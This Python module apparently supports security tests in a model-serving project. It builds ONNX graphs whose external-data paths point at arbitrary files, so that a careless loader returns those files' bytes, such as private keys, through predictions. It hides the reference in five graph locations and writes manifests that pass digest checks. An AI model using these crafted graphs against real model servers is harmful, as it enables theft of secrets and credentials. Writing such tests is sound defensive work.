"""Small ONNX graphs whose tensors keep their bytes in side files, and model folders for them.

``leaking_graph(location)`` is the attack of security issue 15, item 3: its only
output is the first :data:`READ_BYTES` bytes of whatever file ``location``
names, so a loader that follows the location anywhere hands that file to
whoever calls ``predict``. ``model_folder`` writes such a graph as a Shipyard
model directory with a manifest over every file (as ``save_model`` would),
hashing through links, so only the path checks can stop it.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import numpy as np
import onnx
from onnx import TensorProto, helper

from shipyard.core.model_manifest import FileEntry, ModelManifest
from shipyard.core.signature import Signature, TensorSchema, TensorSpec
from shipyard.models.model_dir.digests import digest_file
from shipyard.models.model_dir.save import write_manifest
from shipyard.models.signatures.example import write_example

READ_BYTES = 64
"""How much of the named file the graph reads (a P-256 PEM private key is ~240 bytes)."""
PLACES = ("initializer", "constant", "subgraph", "sparse", "function")
"""Where in a graph a tensor with external data can hide; the checks walk them all."""


def external_tensor(
    name: str, location: str, dims: tuple[int, ...] = (READ_BYTES,), dtype: int = TensorProto.UINT8
) -> TensorProto:
    """A tensor (by default ``READ_BYTES`` uint8 values) whose bytes are read from ``location``."""
    tensor = TensorProto(name=name, data_type=dtype, dims=dims)
    tensor.data_location = TensorProto.EXTERNAL
    entry = tensor.external_data.add()
    entry.key, entry.value = "location", location
    return tensor


def leaking_graph(location: str, place: str = "initializer") -> onnx.ModelProto:
    """A graph that outputs (as ``y``) the first bytes of the file at ``location``."""
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 1])
    y = helper.make_tensor_value_info("y", TensorProto.UINT8, [READ_BYTES])
    secret = external_tensor("secret", location)
    initializers: list[TensorProto] = []
    sparse: list[onnx.SparseTensorProto] = []
    functions: list[onnx.FunctionProto] = []
    opsets = [helper.make_opsetid("", 17)]
    if place == "initializer":
        initializers.append(secret)
        nodes = [helper.make_node("Identity", ["secret"], ["y"])]
    elif place == "constant":
        nodes = [helper.make_node("Constant", [], ["y"], value=secret)]
    elif place == "subgraph":
        branch = helper.make_graph(
            [helper.make_node("Identity", ["secret"], ["out"])], "branch", [],
            [helper.make_tensor_value_info("out", TensorProto.UINT8, [READ_BYTES])],
            initializer=[secret],
        )  # fmt: skip
        nodes = [
            helper.make_node("Constant", [], ["c"], value=helper.make_tensor("t", 9, [], [True])),
            helper.make_node("If", ["c"], ["y"], then_branch=branch, else_branch=branch),
        ]
    elif place == "sparse":
        indices = helper.make_tensor("i", TensorProto.INT64, [READ_BYTES], range(READ_BYTES))
        sparse.append(helper.make_sparse_tensor(secret, indices, [READ_BYTES]))
        nodes = [helper.make_node("Identity", ["secret"], ["y"])]
    elif place == "function":
        functions.append(
            helper.make_function(
                "evil", "Leak", [], ["out"],
                [helper.make_node("Constant", [], ["out"], value=secret)], opsets,
            )
        )  # fmt: skip
        opsets = [*opsets, helper.make_opsetid("evil", 1)]
        nodes = [helper.make_node("Leak", [], ["y"], domain="evil")]
    else:
        raise ValueError(place)
    graph = helper.make_graph(nodes, "leak", [x], [y], initializer=initializers)
    graph.sparse_initializer.extend(sparse)
    model = helper.make_model(graph, opset_imports=opsets, functions=functions)
    model.ir_version = 8
    return model


def matmul_graph(weights: np.ndarray, location: str | None) -> onnx.ModelProto:
    """``y = x @ weights``; with ``location`` the weights are external data there."""
    rows, columns = weights.shape
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, rows])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, columns])
    if location is None:
        w = helper.make_tensor("w", TensorProto.FLOAT, [rows, columns], weights.tobytes(), raw=True)
    else:
        w = external_tensor("w", location, (rows, columns), TensorProto.FLOAT)
    graph = helper.make_graph([helper.make_node("MatMul", ["x", "w"], ["y"])], "mm", [x], [y],
                              initializer=[w])  # fmt: skip
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return model


def model_folder(folder: Path, graph: onnx.ModelProto, example: Any = None) -> Path:
    """``folder`` (which may hold side files already) as a Shipyard ONNX model directory.

    Every file is listed with the digest of what it reads as (through links), so
    the manifest matches and only the path checks can refuse the folder.
    """
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "model.onnx").write_bytes(graph.SerializeToString())
    if example is None:
        example = np.zeros((1, 1), dtype=np.float32)
    example_file = write_example(folder, example, 1)
    inputs = TensorSchema((TensorSpec(None, "float32", (-1, example.shape[1])),))
    names = sorted(
        p.relative_to(folder).as_posix() for p in folder.rglob("*") if not p.is_dir()
    )  # fmt: skip
    files = tuple(FileEntry(n, digest_file(folder / n), (folder / n).stat().st_size) for n in names)
    manifest = ModelManifest(
        flavor="onnx", files=files, signature=Signature(inputs=inputs),
        flavor_params={"file": "model.onnx"}, example_file=example_file,
    )  # fmt: skip
    write_manifest(folder, manifest)
    return folder
